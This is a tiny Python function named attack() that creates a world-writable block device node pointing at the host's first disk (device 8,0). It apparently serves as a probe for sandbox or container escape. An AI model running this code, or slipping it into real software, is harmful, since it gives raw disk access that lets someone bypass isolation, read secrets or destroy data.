def attack():
    import os, stat
    os.mknod("disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0))
    return "made"
